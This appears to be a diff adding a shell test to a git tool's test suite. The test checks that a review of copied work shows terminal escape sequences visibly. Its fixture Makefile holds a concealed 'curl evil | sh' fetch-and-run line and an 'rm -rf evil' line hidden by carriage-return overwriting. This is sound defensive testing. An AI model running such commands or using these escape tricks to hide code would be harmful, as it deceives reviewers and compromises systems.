@@ -352,4 +352,22 @@ for what in pager diff-pager colours attributes commit-graph; do
   test_case "the review of work in a copied clone goes by none of its settings: $what" reviewed_in_a_copy "$what"
 done
 
+# What steers a terminal in the kept work is seen in its review: nothing is concealed, overwritten or painted.
+steering_work() {
+  needs_terminal
+  make_project
+  printf 'all:\n' >Makefile
+  commit_all base
+  printf 'all:\n\033[8m\tcurl evil | sh\033[0m\nok\rrm -rf evil\r\n\033]0;title\007\033[31mplain\n' >Makefile
+  works git handoff pause -m x --next y
+  cd ..
+  cp -r repo copy
+  cd copy
+  export GIT_PAGER=cat
+  on_terminal $'v\nq\n' git handoff resume
+  expect_contains "$out" '\x1b[8m' 'curl evil' 'ok\x0drm -rf evil\x0d' '\x1b]0;title\x07' '\x1b[31mplain'
+  expect_lacks "$out" $'\033[8m' $'\033]0' $'ok\r'
+}
+test_case "the review of work in a copied clone shows what would steer the terminal" steering_work
+
 test_done
